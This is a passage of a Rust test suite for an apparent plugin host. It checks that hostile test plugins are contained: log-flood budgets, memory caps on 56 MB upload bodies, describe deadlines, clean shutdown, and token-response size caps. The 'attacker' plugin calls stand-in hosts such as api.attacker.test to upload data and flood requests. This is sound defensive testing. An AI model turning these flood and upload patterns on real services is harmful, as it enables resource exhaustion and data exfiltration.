                // Longer than the debounce, so every version is loaded.
                std::thread::sleep(Duration::from_millis(250));
            }
        })
    };
    // ... and a call waits on the stalled upstream (for up to its 30 s wall-clock limit).
    let hanging = {
        let (client, url, token) = (
            served.client.clone(),
            served.host.url.clone(),
            served.token.clone(),
        );
        tokio::spawn(async move {
            client
                .post(format!("{url}/actions"))
                .bearer_auth(token)
                .json(&json!({"action": "ATTACKER_REQUEST", "parameters": {"url": "https://api.attacker.test/slow"}}))
                .send()
                .await
        })
    };
    let waited = Instant::now();
    while stalled.requests().is_empty() {
        assert!(
            waited.elapsed() < Duration::from_secs(10),
            "the call never reached the upstream"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    served.neighbour_answers().await;
    let started = Instant::now();
    let status = served.host.stop();
    let took = started.elapsed();
    stop.store(true, std::sync::atomic::Ordering::Release);
    writer.join().unwrap();
    hanging.abort();
    assert!(status.success(), "{status:?}");
    // The grace for calls in flight is 10 s; nothing else may hold the exit.
    assert!(took < Duration::from_secs(13), "SIGTERM took {took:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_log_line_a_call_causes_is_bounded_and_counted_in_its_budget() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let served = Served::start(&data, &[], "").await;
    served.upload_attacker(attacker("normal", 0)).await;
    for _ in 0..3 {
        let (status, body) = served
            .run(
                "ATTACKER_LOG_FLOOD",
                json!({"lines": 150, "bytes": 100_000}),
            )
            .await;
        assert_eq!(status, 200, "{body}");
        served.neighbour_answers().await;
    }
    // No plugin lines: the host's own lines about its refused requests, URL and header cut.
    let (status, body) = served
        .run("ATTACKER_LOG_FLOOD", json!({"lines": 0, "bytes": 100_000}))
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, log) = served.host.stop_with_log();
    assert!(status.success());
    // 3 calls x 200 lines, each at most a few KiB, instead of gigabytes (a call's 150 plugin
    // lines and 152 refused requests share its budget of 200 lines).
    assert!(
        log.len() < 4 * 1024 * 1024,
        "the log grew by {} bytes",
        log.len()
    );
    assert!(
        log.contains("plugin log lines over the per-call budget were dropped"),
        "{}",
        &log[log.len().saturating_sub(2000)..]
    );
    assert!(log.contains("plugin request refused"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stderr_nobody_reads_stalls_nothing_and_holds_no_memory() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let served = Served::start_with(
        &data,
        &[("ACTIONHOST_LOG", "debug")],
        "",
        Some(std::process::Stdio::piped()),
    )
    .await;
    served.upload_attacker(attacker("normal", 0)).await;
    let baseline = served.peak_rss_mib();
    // Each call asks for 10,000 refused requests with 2 KB URLs: unbounded, 20 calls would be
    // 200,000 lines and 400 MB for a queue nobody empties.
    for _ in 0..20 {
        let (status, body) = tokio::time::timeout(
            Duration::from_secs(10),
            served.run(
                "ATTACKER_LOG_FLOOD",
                json!({"lines": 10_000, "bytes": 2_000}),
            ),
        )
        .await
        .expect("the call was answered");
        // Ended by the request cap, or finished: either way, answered.
        assert!(
            status == 200 || body["error"]["code"] == "plugin_error",
            "{status} {body}"
        );
        served.healthy_within(Duration::from_secs(1)).await;
        served.neighbour_answers().await;
    }
    let peak = served.peak_rss_mib();
    assert!(peak < baseline + 200, "RSS {baseline} MiB -> {peak} MiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twenty_calls_sending_56_mb_bodies_at_once_are_refused_within_bounded_memory() {
    let upstream = StandIn::json(json!({})).await;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let overrides = format!("https://api.attacker.test={}", upstream.url());
    let served = Served::start(&data, &[], &overrides).await;
    served.upload_attacker(attacker("normal", 0)).await;
    let calls = (0..20).map(|_| {
        served.run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/upload", "method": "POST", "body_bytes": 56_000_000}),
        )
    });
    // 20 guests each filling 56 MB and the host copying each body out share 2 cores with
    // the rest of the suite: the neighbour is answered, if not as fast as when idle.
    let (answers, ()) = tokio::join!(futures::future::join_all(calls), async {
        tokio::time::sleep(Duration::from_millis(200)).await;
        served
            .neighbour_answers_within(Duration::from_secs(5))
            .await;
    });
    for (status, body) in answers {
        assert_eq!(status, 200, "{body}");
        assert!(
            body["last_error"]
                .as_str()
                .unwrap_or_default()
                .contains("over the cap"),
            "{body}"
        );
    }
    served.healthy_within(Duration::from_secs(1)).await;
    assert!(upstream.requests().is_empty());
    let peak = served.peak_rss_mib();
    eprintln!("peak RSS with 20 x 56 MB bodies: {peak} MiB");
    // 4.7 GB before the request cap; each call now holds its instance and one copy of its body.
    assert!(peak < 2 * 1024, "peak RSS {peak} MiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_describe_costs_a_listing_its_deadline_at_most_and_is_not_retried_at_once() {
    let slow = StandIn::start(|_| {
        Reply::json(200, json!([{"name": "region", "type": "string"}]))
            .delayed(Duration::from_secs(20))
    })
    .await;
    let app = TestApp::start(&format!("https://api.hostile.test={}", slow.url()), |_| {}).await;
    app.load(actionhost_e2e::components::HOSTILE).await;
    app.connect("alice", "hostile", json!({"api_key": "k"}))
        .await;
    let started = Instant::now();
    let listing = app
        .as_user("alice", "GET", "/actions?integrations=hostile", None)
        .await;
    let took = started.elapsed();
    assert!(took < Duration::from_secs(8), "the listing took {took:?}");
    assert!(
        listing.body["errors"]
            .to_string()
            .contains("HOSTILE_CREATE_RECORD: describe did not finish within the listing's 5 s"),
        "{listing:?}"
    );
    // The action is still listed, with its static schema.
    assert!(
        listing.body["actions"]["hostile"]
            .to_string()
            .contains("HOSTILE_CREATE_RECORD")
    );
    // Within a minute, the next listing does not wait on it again.
    let started = Instant::now();
    let again = app
        .as_user("alice", "GET", "/actions?integrations=hostile", None)
        .await;
    assert!(started.elapsed() < Duration::from_secs(1));
    assert!(
        again.body["errors"].to_string().contains("describe failed"),
        "{again:?}"
    );
    assert_eq!(slow.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugins_token_endpoint_is_read_only_up_to_a_cap() {
    // A 10 MB answer from the token endpoint the plugin declared (opened by the operator here,
    // since a test can only serve it on loopback).
    let huge = "x".repeat(10 * 1024 * 1024);
    let token_server = StandIn::start(move |_| {
        Reply::json(200, json!({"access_token": huge, "token_type": "bearer"}))
    })
    .await;
    let origin = actionhost::origin::Origin::parse(&token_server.url()).unwrap();
    let app = TestApp::start("", move |s| s.allow_private_origins = vec![origin]).await;
    oauth_attacker(&app, token_server.addr.port()).await;
    let authorization = app
        .as_user(
            "alice",
            "POST",
            "/connected-accounts/attacker/authorize",
            None,
        )
        .await;
    let url = url::Url::parse(authorization.body["authorization_url"].as_str().unwrap()).unwrap();
    let state = url
        .query_pairs()
        .find(|(k, _)| k == "state")
        .map(|(_, v)| v.into_owned())
        .unwrap();
    let callback = app
        .client
        .get(format!("{}/oauth/callback", app.url))
        .query(&[("code", "the-code"), ("state", state.as_str())])
        .send()
        .await
        .unwrap();
    let status = callback.status().as_u16();
    let text = callback.text().await.unwrap();
    assert_eq!(status, 502, "{text}");
    assert!(text.contains("over 65536 bytes"), "{text}");
    assert_eq!(token_server.requests().len(), 1);
    let accounts = app
        .as_user("alice", "GET", "/connected-accounts", None)
        .await;
    assert!(
        !accounts.body.to_string().contains("\"attacker\""),
        "{accounts:?}"
    );
}
